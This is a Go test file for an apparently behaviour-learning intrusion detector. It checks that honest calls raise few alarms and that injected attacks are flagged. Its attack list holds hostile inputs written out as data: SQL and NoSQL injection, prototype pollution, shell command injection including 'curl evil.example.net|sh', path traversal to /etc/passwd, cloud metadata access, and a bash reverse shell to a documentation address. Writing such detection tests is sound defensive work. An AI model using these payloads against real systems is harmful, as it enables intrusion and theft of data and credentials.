package model

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"redoubt.dev/redoubt/internal/function"
	"redoubt.dev/redoubt/internal/profile"
	"redoubt.dev/redoubt/internal/redoubt"
)

const (
	learnHours  = 7 * 24
	replayHours = 4 * 24
)

// learned is a function after a week of honest calls.
func learned(t testing.TB, a *archetype, c *crowd, hours int) *Learner {
	t.Helper()
	l := NewLearner(New(a.name, epoch))
	for h := range hours {
		a.hour(c, h, func(k call) {
			begin(l, &k)
			l.Learn(&k.inv, &k.req)
		})
	}
	return l
}

// begin tells of the arguments of a thumbnail's program, as the sandbox does.
func begin(l *Learner, k *call) {
	if k.inv.Function == "thumbnails" {
		l.Started(k.inv.ID, "/usr/bin/convert", convertArgs(k))
	}
}

func convertArgs(k *call) []string {
	return []string{"convert", "-resize", fmt.Sprintf("%dx%d", 100+len(k.inv.ID)%3*50, 100), k.inv.Uses[1].Target, "/tmp/out.jpg"}
}

// judge returns every verdict that alarms about a call and all it does.
func judge(l *Learner, k *call) (alarms []redoubt.Verdict, judged int) {
	note := func(v redoubt.Verdict) {
		judged++
		if v.Effect != redoubt.EffectIgnore {
			alarms = append(alarms, v)
		}
	}
	note(l.JudgeRequest(&k.req))
	for _, u := range k.inv.Uses {
		d := Deed{Time: k.inv.Time, Function: k.inv.Function, Version: k.inv.Version, Invocation: k.inv.ID, Caller: k.inv.Caller, Use: u, Granted: !u.Refused}
		if u.Kind == function.UseExec && k.inv.Function == "thumbnails" {
			d.Args = convertArgs(k)
		}
		note(l.Judge(&d))
	}
	for _, v := range l.JudgeAnswer(&k.inv) {
		note(v)
	}
	return alarms, judged
}

func TestS12_HonestTrafficRaisesNoAlarms(t *testing.T) {
	models, crowds := map[string]*Model{}, map[string]crowd{}
	for i := range archetypes {
		c := newCrowd(uint64(i))
		models[archetypes[i].name] = learned(t, &archetypes[i], c, learnHours).Model()
		crowds[archetypes[i].name] = *c
	}
	for _, state := range []profile.State{profile.Observing, profile.Enforcing} {
		calls, judged, alarmed, refused := 0, 0, 0, 0
		for i := range archetypes {
			a := &archetypes[i]
			m, was := models[a.name], crowds[a.name]
			l, c := NewLearner(m), &crowd{rand.New(rand.NewPCG(uint64(i), 71)), was.n}
			mine, of := 0, 0
			if err := l.SetState(profile.Observing, m.Last); err != nil {
				t.Fatal(err)
			}
			if err := l.SetState(state, m.Last); err != nil {
				t.Fatal(err)
			}
			for h := learnHours; h < learnHours+replayHours; h++ {
				a.hour(c, h, func(k call) {
					begin(l, &k)
					alarms, n := judge(l, &k)
					of++
					judged += n
					mine += len(alarms)
					for _, v := range alarms {
						if v.Effect == redoubt.EffectPrevent {
							refused++
						}
						if mine <= 3 {
							t.Logf("%s %s: %s %s %s", state, a.name, v.Effect, v.Severity, v.Reason)
						}
					}
					l.Learn(&k.inv, &k.req)
				})
			}
			t.Logf("%-9s %-10s learned from %5d calls, %4d units, coverage ≥ %.1f %%; %d entries; then %d false alarms in %d calls",
				state, a.name, m.Calls, m.Units, 100*m.Coverage.Lower, len(m.Entries), mine, of)
			calls += of
			alarmed += mine
			if m.Coverage.Lower < profile.Enough {
				t.Errorf("%s: a week of calls covers %.3f only: %v", a.name, m.Coverage.Lower, m.Coverage.Missing)
			}
		}
		t.Logf("%s: %d false alarms in %d honest calls (%d judgements): %.4f %%; %d refused", state, alarmed, calls, judged, 100*float64(alarmed)/float64(calls), refused)
		if float64(alarmed) > 0.0005*float64(calls) {
			t.Errorf("%s: more than one honest call in 2,000 raises an alarm", state)
		}
		if float64(refused) > 0.0001*float64(calls) {
			t.Errorf("%s: more than one honest call in 10,000 would be refused", state)
		}
	}
}

// attack changes an honest call into an attack.
type attack struct {
	name      string
	of        string
	technique string
	twist     func(c *crowd, k *call)
}

var attacks = []attack{
	{"sql in a number", "orders", "T1190", get(func(k *call) { k.req.Params[0].Value = "1042' OR '1'='1" })},
	{"stacked sql in a number", "orders", "T1190", get(func(k *call) { k.req.Params[0].Value = "1; DROP TABLE orders--" })},
	{"sql in a name", "orders", "T1190", post(func(k *call) { k.replace("SKU-", "x' UNION SELECT card FROM cards--") })},
	{"command in a word", "orders", "T1059", post(func(k *call) { k.replace("SKU-", "SKU-1;cat /etc/passwd #") })},
	{"operator in a value", "orders", "T1190", post(func(k *call) {
		k.req.Body = []byte(strings.Replace(string(k.req.Body), `"qty":`, `"qty":{"$gt":0},"x":`, 1))
	})},
	{"prototype", "orders", "T1190", post(func(k *call) { k.req.Body = []byte(`{"__proto__":{"admin":true},` + string(k.req.Body)[1:]) })},
	{"command in a page", "search", "T1059", func(_ *crowd, k *call) { k.req.Params[1].Value = "1|id" }},
	{"template in a page", "search", "T1059", func(_ *crowd, k *call) { k.req.Params[1].Value = "${7*7}" }},
	{"command substitution in a search", "search", "T1059", func(_ *crowd, k *call) { k.req.Params[0].Value = "shoes $(curl evil.example.net|sh)" }},
	{"path in a device", "sensor", "T1190", func(_ *crowd, k *call) { k.replace(`"device":"d`, `"device":"../../../../etc/passwd`) }},
	{"command in a device", "sensor", "T1059", func(_ *crowd, k *call) { k.replace(`"device":"d`, `"device":"d1`+"`wget x`") }},
	{"new domain", "orders", "T1071", uses(use(function.UseEgress, "collect.evil.example.net:443", 900))},
	{"new port", "sensor", "T1571", uses(use(function.UseEgress, "198.51.100.7:4444", 900))},
	{"new action", "orders", "T1098", uses(use(function.UseAWS, "iam:AttachUserPolicy user/x", 0))},
	{"new table", "search", "T1530", uses(use(function.UseAWS, "dynamodb:Scan table/users", 0))},
	{"another secret", "orders", "T1552.001", uses(use(function.UseSecret, "old-key", 0))},
	{"another function", "orders", "T1021", uses(use(function.UseFunction, "billing", 0))},
	{"volume to a known host", "orders", "T1041", uses(use(function.UseEgress, "payments.example.com:443", 40<<20))},
	{"volume from a table", "search", "T1041", uses(use(function.UseAWS, "dynamodb:Query table/goods", 900<<20))},
	{"a whole table as the answer", "search", "T1041", func(_ *crowd, k *call) { k.inv.Out = 5 << 20 }},
	{"shell without a grant", "orders", "T1059.004", uses(function.Use{Kind: function.UseExec, Target: "/bin/sh", Count: 1, Refused: true})},
	{"metadata address", "search", "T1552.005", uses(function.Use{Kind: function.UseEgress, Target: "169.254.169.254:80", Count: 1, Refused: true})},
	{"program from /tmp", "thumbnails", "T1620", uses(use(function.UseExec, "/tmp/upload-x1y2z3", 0))},
	{"own environment", "report", "T1552.001", uses(use(function.UseRead, "/proc/self/environ", 0))},
}

func uses(u ...function.Use) func(*crowd, *call) {
	return func(_ *crowd, k *call) { k.inv.Uses = append(k.inv.Uses, u...) }
}

func get(twist func(*call)) func(*crowd, *call)  { return onRoute("GET /orders/{id}", twist) }
func post(twist func(*call)) func(*crowd, *call) { return onRoute("POST /orders", twist) }

func onRoute(route string, twist func(*call)) func(*crowd, *call) {
	return func(c *crowd, k *call) {
		for k.inv.Route != route {
			*k = orders(c, k.inv.Time)
		}
		twist(k)
	}
}

func (k *call) replace(old, by string) {
	k.req.Body = []byte(strings.Replace(string(k.req.Body), old, by, 1))
}

func TestS12_AttacksRaiseAlarms(t *testing.T) {
	models := map[string]*Model{}
	for i := range archetypes {
		c := newCrowd(uint64(i))
		models[archetypes[i].name] = learned(t, &archetypes[i], c, learnHours).Model()
	}
	for _, a := range attacks {
		t.Run(strings.ReplaceAll(a.name, " ", "_"), func(t *testing.T) {
			for _, state := range []profile.State{profile.Observing, profile.Enforcing} {
				l := NewLearner(models[a.of])
				l.SetState(profile.Observing, epoch)
				l.SetState(state, epoch)
				c := newCrowd(99)
				honest := honestCall(c, a.of)
				if alarms, _ := judge(l, &honest); len(alarms) > 0 {
					t.Fatalf("%s: the honest twin alarms: %+v", state, alarms)
				}
				a.twist(c, &honest)
				alarms, _ := judge(l, &honest)
				if len(alarms) == 0 {
					t.Fatalf("%s: not noticed: %s", state, honest.req.Body)
				}
				v := worst(alarms)
				t.Logf("%s: %s %s %s", state, v.Effect, v.Severity, v.Reason)
				if v.Technique != a.technique || v.Severity < redoubt.Medium || v.Reason == "" {
					t.Errorf("%s: got %+v, want technique %s and at least medium", state, v, a.technique)
				}
				late := a.name == "a whole table as the answer"
				if state == profile.Enforcing && v.Effect != redoubt.EffectPrevent && !late {
					t.Errorf("enforcing only %s: %s", v.Effect, v.Reason)
				}
			}
		})
	}
}

func worst(all []redoubt.Verdict) redoubt.Verdict {
	w := all[0]
	for _, v := range all {
		if v.Severity > w.Severity {
			w = v
		}
	}
	return w
}

func honestCall(c *crowd, of string) call {
	at := epoch.Add((learnHours + 1) * time.Hour)
	for i := range archetypes {
		if archetypes[i].name == of {
			return archetypes[i].make(c, at)
		}
	}
	panic(of)
}

func TestS12_LearningAlarmsOnlyAboutWhatIsAlwaysSuspicious(t *testing.T) {
	l := NewLearner(New("orders", epoch))
	c := newCrowd(5)
	for range 200 {
		k := orders(c, epoch)
		if alarms, _ := judge(l, &k); len(alarms) > 0 {
			t.Fatalf("an honest call alarms while learning: %+v", alarms)
		}
	}
	for target, want := range map[string]string{"/bin/sh": "T1059.004", "/usr/bin/python3.11": "T1059.006", "/usr/bin/curl": "T1105"} {
		d := Deed{Function: "orders", Use: function.Use{Kind: function.UseExec, Target: target, Refused: true}}
		if v := l.Judge(&d); v.Technique != want || v.Effect != redoubt.EffectPrevent || v.Severity < redoubt.High {
			t.Errorf("%s without a grant: %+v", target, v)
		}
		d.Granted, d.Use.Refused = true, false
		if v := l.Judge(&d); v.Effect != redoubt.EffectIgnore {
			t.Errorf("%s with a grant: %+v", target, v)
		}
	}
	d := Deed{Function: "orders", Granted: true, Args: []string{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, Use: function.Use{Kind: function.UseExec, Target: "/bin/bash"}}
	if v := l.Judge(&d); v.Severity != redoubt.Critical || v.Technique != "T1059.004" {
		t.Errorf("reverse shell with a grant: %+v", v)
	}
	d.Args = []string{"bash", "-c", "ls /tmp"}
	if v := l.Judge(&d); v.Effect != redoubt.EffectIgnore {
		t.Errorf("its honest twin: %+v", v)
	}
	d = Deed{Function: "orders", Use: function.Use{Kind: function.UseEgress, Target: "telemetry.example.com:443", Refused: true}}
	if v := l.Judge(&d); v.Effect != redoubt.EffectIgnore {
		t.Errorf("a refused name while learning: %+v", v)
	}
}
